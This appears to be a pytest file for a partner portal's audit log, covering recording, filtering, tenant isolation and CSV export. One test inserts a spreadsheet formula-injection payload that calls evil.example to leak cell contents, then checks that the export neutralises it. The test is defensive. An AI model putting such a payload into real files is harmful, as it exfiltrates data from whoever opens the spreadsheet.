"""The audit log records what the portal changed, shows it with filters, and exports it as CSV."""

import csv
import io

from tests.conftest import page, text_of


def test_sign_in_credential_and_sign_out_are_recorded(client, auth):
    auth.sign_in_through_the_forms("acme")
    rows = page(client.get("/audit/")).select("#audit-entries tbody tr")
    actions = [row.select("td")[3].get_text(" ", strip=True) for row in rows]
    assert actions[0].startswith("credential created") and actions[1].startswith("sign in")
    assert all("admin@acme.example" in row.get_text() for row in rows)


def test_a_failed_attempt_is_recorded_as_a_failure(client, auth):
    auth.login("acme", password="wrong")
    auth.sign_in("acme")
    failures = client.get("/audit/?outcome=failure")
    # The failed sign-in has no partner yet (the password was wrong), so it is not Acme's to see.
    entries = page(failures).select_one("#audit-entries").get_text(" ", strip=True)
    assert entries == "0 entries Nothing recorded for these filters yet."


def test_filters_narrow_the_list_and_bad_dates_are_explained(client, auth):
    auth.sign_in_through_the_forms("acme")
    only_sign_in = page(client.get("/audit/?action=sign_in"))
    assert len(only_sign_in.select("#audit-entries tbody tr")) == 1
    explained = text_of(client.get("/audit/?since=yesterday"))
    assert "“yesterday” is not a date like 2026-11-25" in explained


def test_an_htmx_filter_change_swaps_only_the_entries(client, auth):
    auth.sign_in("acme")
    fragment = client.get("/audit/?action=sign_in", headers={"HX-Request": "true"})
    assert fragment.headers["Vary"] == "HX-Request" or "HX-Request" in fragment.headers["Vary"]
    soup = page(fragment)
    assert soup.select_one("#audit-entries") is not None and soup.select_one("nav[aria-label]") is None
    boosted = client.get("/audit/", headers={"HX-Request": "true", "HX-Boosted": "true"})
    assert page(boosted).select_one("header") is not None


def test_the_csv_export_has_the_filtered_entries(client, auth):
    auth.sign_in_through_the_forms("acme")
    response = client.get("/audit/export.csv?action=credential_created")
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [row["action"] for row in rows] == ["credential_created"]
    assert rows[0]["actor"] == "admin@acme.example" and rows[0]["outcome"] == "success"


def test_one_partner_never_sees_the_others_entries(app, auth):
    acme, globex = app.test_client(), app.test_client()
    type(auth)(acme).sign_in("acme")
    type(auth)(globex).sign_in("globex")
    assert "admin@acme.example" not in text_of(globex.get("/audit/"))
    assert "admin@globex.example" not in text_of(acme.get("/audit/"))


def test_the_csv_export_writes_a_formula_typed_into_a_name_as_text(app, client, auth):
    from webapp.actor import Actor

    auth.sign_in("acme")
    with client.session_transaction() as stored:
        partner_id = stored["partner"]["id"]
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    with app.app_context():
        Actor("admin@acme.example", partner_id, "sandbox").audit("key_created", formula, detail="@SUM(1+1)")
    response = client.get("/audit/export.csv?action=key_created", buffered=False)
    assert response.is_streamed and "Content-Length" not in response.headers  # streamed, not built in memory
    assert response.headers["Cache-Control"] == "no-store" and response.headers["Content-Disposition"].startswith("attachment; filename=audit-")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0]["target"] == "'" + formula and rows[0]["detail"] == "'@SUM(1+1)"
    assert rows[0]["actor"] == "admin@acme.example"
